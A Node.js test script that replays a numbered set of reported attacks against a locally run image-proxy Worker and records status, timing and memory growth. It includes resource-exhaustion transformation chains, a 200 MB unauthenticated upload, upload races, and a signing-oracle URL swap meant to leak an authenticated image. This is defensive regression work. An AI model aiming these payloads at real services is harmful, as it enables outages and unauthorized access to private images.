#!/usr/bin/env node
// Replays the attacks of issue #11 against the Worker under wrangler (local workerd, demo on, as
// `npm start` runs it) and prints, for each, what it answered, how long it took and how much the
// workerd process grew (RSS, read from /proc: the JS heap and WASM memory together).
//
//   node bench/reproducers.mjs [--only 6]
//
// Each request is bounded by a client timeout: a hang prints as "timeout".
import { readdirSync, readFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import sharp from 'sharp';
import { startWorker } from '../scripts/lib/start-worker.mjs';
import { API_KEY, DEMO_UPLOAD_PRESET } from '../scripts/lib/api.mjs';
import { CLOUD, option, SECRET, signed, upload } from './lib.mjs';

const ONLY = option('only', '');
const TIMEOUT_MS = 30_000;
const worker = await startWorker({ secret: SECRET, vars: { DIAGNOSTICS: 'true', DEMO: 'true', UNSIGNED_UPLOAD_PRESET: DEMO_UPLOAD_PRESET } });
const origin = worker.url;
const base = `${origin}/${CLOUD}/image/upload`;
const rows = [];

/** RSS of every workerd process under this one, in MiB. */
function workerdRss() {
  const parents = new Map();
  const names = new Map();
  for (const pid of readdirSafe('/proc')) {
    try {
      const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
      const m = /^(\d+) \((.*)\) \S (\d+)/.exec(stat);
      if (m) {
        parents.set(Number(m[1]), Number(m[3]));
        names.set(Number(m[1]), m[2]);
      }
    } catch {}
  }
  let kb = 0;
  for (const [pid, name] of names) {
    if (name !== 'workerd') continue;
    let p = pid;
    while (p > 1 && p !== process.pid) p = parents.get(p) ?? 0;
    if (p !== process.pid) continue;
    kb += Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0);
  }
  return kb / 1024;
}

function readdirSafe(dir) {
  try {
    return readdirSync(dir).filter((p) => /^\d+$/.test(p));
  } catch {
    return [];
  }
}

async function timed(init, url) {
  const t = performance.now();
  try {
    const res = await fetch(url, { ...init, signal: AbortSignal.timeout(TIMEOUT_MS) });
    const body = new Uint8Array(await res.arrayBuffer());
    return { status: res.status, ms: performance.now() - t, error: res.headers.get('X-Cld-Error') ?? '', headers: res.headers, body };
  } catch (e) {
    return {
      status: e.name === 'TimeoutError' ? 'timeout' : 'network error',
      ms: performance.now() - t,
      error: String(e.message ?? e),
      headers: new Headers(),
      body: new Uint8Array(),
    };
  }
}
const get = (url, headers = {}) => timed({ headers }, url);

async function row(id, name, run) {
  if (ONLY && ONLY !== id) return;
  const before = workerdRss();
  const r = await run();
  const after = workerdRss();
  rows.push({ id, name, ...r, rss: `${before.toFixed(0)} -> ${after.toFixed(0)} MiB` });
  console.log(
    `#${id} ${name}\n   ${r.status} in ${r.ms.toFixed(0)} ms, workerd RSS ${before.toFixed(0)} -> ${after.toFixed(0)} MiB${r.error ? `\n   X-Cld-Error: ${r.error.slice(0, 200)}` : ''}${r.note ? `\n   ${r.note}` : ''}`,
  );
}

function unsignedForm(publicId, bytes) {
  const form = new FormData();
  form.set('upload_preset', DEMO_UPLOAD_PRESET);
  if (publicId) form.set('public_id', publicId);
  form.set('file', new Blob([bytes]), 'upload.jpg');
  return form;
}

function signedForm(params, bytes) {
  const all = { timestamp: String(Math.floor(Date.now() / 1000)), ...params };
  const toSign = Object.keys(all)
    .sort()
    .map((k) => `${k}=${all[k]}`)
    .join('&');
  const form = new FormData();
  for (const [k, v] of Object.entries(all)) form.set(k, v);
  form.set('api_key', API_KEY);
  form.set(
    'signature',
    createHash('sha1')
      .update(toSign + SECRET)
      .digest('hex'),
  );
  form.set('file', new Blob([bytes]), 'upload.jpg');
  return form;
}
const post = (form) => timed({ method: 'POST', body: form }, `${origin}/v1_1/${CLOUD}/image/upload`);

const photo = (w, h, seed = 1) =>
  sharp({ create: { width: w, height: h, channels: 3, background: { r: 40 * seed, g: 120, b: 200 } } })
    .jpeg({ quality: 85 })
    .toBuffer();
const noisePng = (w, h) => {
  const raw = Buffer.alloc(w * h * 3);
  let s = 12345;
  for (let i = 0; i < raw.length; i++) raw[i] = (s = (s * 1103515245 + 12345) >>> 0) >>> 24;
  return sharp(raw, { raw: { width: w, height: h, channels: 3 } })
    .png({ compressionLevel: 0 })
    .toBuffer();
};

try {
  await upload(origin, 'sample', await photo(768, 512));
  await upload(
    origin,
    'small',
    await sharp({ create: { width: 300, height: 200, channels: 4, background: '#3a6' } })
      .png()
      .toBuffer(),
  );
  await upload(origin, 'big', await photo(2000, 1500));

  await row('1', '80 x w_100.0 on a 768x512 JPEG', () => get(`${base}/${'w_100.0/'.repeat(80)}sample.jpg`));
  await row('2', 'c_fill,w_1,h_25000,dpr_5 on a 300x200 PNG', () => get(`${base}/c_fill,w_1,h_25000,dpr_5/small.png`));
  await row('2', 'c_fill,w_1,h_25000 on a 300x200 PNG', () => get(`${base}/c_fill,w_1,h_25000/small.png`));
  await row('2', '10 x e_blur:2000 on 2000x1500', () => get(`${base}/${'e_blur:2000/'.repeat(10)}big.jpg`));
  await row('2', '300 x a_hflip', () => get(`${base}/${'a_hflip/'.repeat(300)}small.png`));

  await row('3', 'demo signing oracle: decoy under an authenticated public ID', async () => {
    await post(signedForm({ public_id: 'victim', type: 'authenticated' }, await photo(400, 300, 3)));
    const decoy = await post(unsignedForm('victim', await photo(400, 300, 5)));
    const decoyId = decoy.status === 200 ? JSON.parse(new TextDecoder().decode(decoy.body)).public_id : 'victim';
    let last = { status: 0, ms: 0, error: '' };
    const notes = [`decoy stored as ${decoyId}`];
    for (const id of new Set(['victim', decoyId])) {
      const cmp = await get(`${origin}/_dprox/demo/comparisons?public_id=${encodeURIComponent(id)}`);
      notes.push(`comparisons for ${id}: ${cmp.status}`);
      if (cmp.status !== 200) {
        last = { ...cmp, note: notes.join('; ') };
        continue;
      }
      const text = new TextDecoder().decode(cmp.body);
      const ai = [...text.matchAll(/"url":"([^"]*s--[^"]*--[^"]*)"/g)].map((m) => m[1]);
      for (const u of ai) {
        const swapped = u
          .replace('/image/upload/', '/image/authenticated/')
          .replace(/\/v\d+\//, '/')
          .replace(/^https?:\/\/[^/]+/, origin)
          .replace(`/${decoyId}`, '/victim');
        let r = await get(swapped);
        for (let i = 0; i < 60 && r.status === 423; i++) {
          await new Promise((res) => setTimeout(res, 500));
          r = await get(swapped);
        }
        if (r.status === 200) return { ...r, note: `LEAK: ${swapped}` };
        notes.push(`${swapped.slice(origin.length)} answered ${r.status}`);
        last = { ...r, note: notes.join('; ') };
      }
    }
    return last;
  });

  await row('4', 'incoming AI upload, then newer uploads to the same public ID', async () => {
    const first = await post(signedForm({ public_id: 'race', transformation: 'e_upscale' }, await photo(64, 48, 2)));
    const unsigned = await post(unsignedForm('race', await photo(100, 100, 4)));
    const newer = await post(signedForm({ public_id: 'race' }, await photo(300, 200, 6)));
    let r;
    for (let i = 0; i < 120; i++) {
      await new Promise((res) => setTimeout(res, 500));
      r = await get(`${base}/race.jpg`);
      if (r.status !== 420 && r.status !== 423) break;
    }
    const meta = r.status === 200 ? await sharp(Buffer.from(r.body)).metadata() : null;
    return {
      ...r,
      note: `incoming ${first.status}, unsigned ${unsigned.status}, newer signed ${newer.status}; original now ${meta ? `${meta.width}x${meta.height}` : r.status} (300x200 = the newer upload kept)`,
    };
  });

  for (const path of [`${base}/%F0%9F%98%80.jpg`, `${base}/w_%F0%9F%98%80/sample.jpg`, `${origin}/v1_1/%F0%9F%98%80/usage`])
    await row('5', `non-BMP: ${decodeURIComponent(path.slice(origin.length))}`, () => get(path));
  await row('5', 'non-BMP: upload_preset=😀', () => {
    const form = new FormData();
    form.set('upload_preset', '😀');
    form.set('file', new Blob([new Uint8Array(10)]), 'x.jpg');
    return post(form);
  });

  await row('6', 'chunked 200 MB upload, no credentials', () => {
    const boundary = 'x'.repeat(20);
    const head = new TextEncoder().encode(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`);
    const chunk = new Uint8Array(1 << 20);
    let sent = 0;
    const body = new ReadableStream({
      pull(c) {
        if (sent === 0) c.enqueue(head);
        if (sent >= 200) return c.close();
        sent++;
        c.enqueue(chunk);
      },
    });
    return timed(
      { method: 'POST', body, duplex: 'half', headers: { 'Content-Type': `multipart/form-data; boundary=${boundary}` } },
      `${origin}/v1_1/${CLOUD}/image/upload`,
    ).then((r) => ({ ...r, note: `${sent} MiB of the body pulled` }));
  });

  await row('7', '10 layers of 30 MB PNGs', async () => {
    const big = await noisePng(3200, 3100);
    for (let i = 0; i < 10; i++) await upload(origin, `layer${i}`, big);
    const layers = Array.from({ length: 10 }, (_, i) => `l_layer${i},w_10/fl_layer_apply`).join('/');
    const r = await get(`${base}/${layers}/sample.jpg`);
    return { ...r, note: `each layer ${(big.length / 2 ** 20).toFixed(1)} MiB` };
  });

  await row('8', 'demo AI comparison of an unsigned 100x4600 upload', async () => {
    const up = await post(unsignedForm('tall', await photo(100, 4600, 3)));
    const id = up.status === 200 ? JSON.parse(new TextDecoder().decode(up.body)).public_id : 'tall';
    const cmp = await get(`${origin}/_dprox/demo/comparisons?public_id=${encodeURIComponent(id)}`);
    if (cmp.status !== 200) return { ...cmp, note: `upload ${up.status}, comparisons ${cmp.status}` };
    const u = /"url":"([^"]*e_gen_restore[^"]*)"/.exec(new TextDecoder().decode(cmp.body))?.[1];
    if (!u) return { ...cmp, note: 'no e_gen_restore comparison offered' };
    const r = await get(u.replace(/^https?:\/\/[^/]+/, origin));
    return { ...r, note: `upload ${up.status} as ${id}; ${u.replace(/^https?:\/\/[^/]+/, '')}` };
  });

  await row('9', '8 concurrent unsigned uploads to one new public ID', async () => {
    const t = performance.now();
    const answers = await Promise.all(Array.from({ length: 8 }, async (_, i) => post(unsignedForm('contested', await photo(50 + i, 50, i)))));
    const told = answers.filter((a) => a.status === 200).map((a) => JSON.parse(new TextDecoder().decode(a.body)));
    const created = told.filter((j) => !j.existing);
    const ids = new Set(created.map((j) => j.public_id));
    return {
      status: answers.map((a) => a.status).join(','),
      ms: performance.now() - t,
      error: '',
      note: `${created.length} told 'stored', under ${ids.size} distinct public IDs`,
    };
  });

  await row('10', 'a long chain is cached (second request)', async () => {
    const chain = `${'e_blur:1/'.repeat(30)}small.png`;
    await get(`${base}/${chain}`);
    await new Promise((r) => setTimeout(r, 500));
    const r = await get(`${base}/${chain}`);
    return { ...r, note: `second request: X-Dprox-Cache ${r.headers.get('X-Dprox-Cache')}` };
  });

  await row('11', '8 concurrent AVIF requests', async () => {
    const t = performance.now();
    const answers = await Promise.all(Array.from({ length: 8 }, (_, i) => get(`${base}/w_${1200 + i}/f_avif/big.jpg`)));
    const mem = await (await fetch(`${origin}/_dprox/memory`)).json();
    return {
      status: answers.map((a) => a.status).join(','),
      ms: performance.now() - t,
      error: answers.find((a) => a.error)?.error ?? '',
      note: `WASM total after: ${(mem.total / 2 ** 20).toFixed(1)} MiB`,
    };
  });

  await row('12', 'the Cache API hits on a repeat', async () => {
    await get(`${base}/w_123/sample.jpg`);
    await new Promise((r) => setTimeout(r, 500));
    const r = await get(`${base}/w_123/sample.jpg`);
    return { ...r, note: `second request: X-Dprox-Cache ${r.headers.get('X-Dprox-Cache')}` };
  });
  await row('12', '/usage with a wrong secret', () => get(`${origin}/v1_1/${CLOUD}/usage`, { Authorization: `Basic ${btoa(`${API_KEY}:wrong`)}` }));
  await row('12', 'signed e_upscale (a job) answers 423 or 200', () => get(`${base}/${signed('e_upscale/small.png')}`));
} finally {
  await worker.dispose();
}

const bad = rows.filter((r) => !/^[\d,]+$/.test(String(r.status)) || /(^|,)5\d\d/.test(String(r.status)));
console.log(`\n${rows.length} reproducers, ${bad.length} answered 5xx, timed out or failed: ${bad.map((r) => `#${r.id}`).join(' ') || 'none'}`);
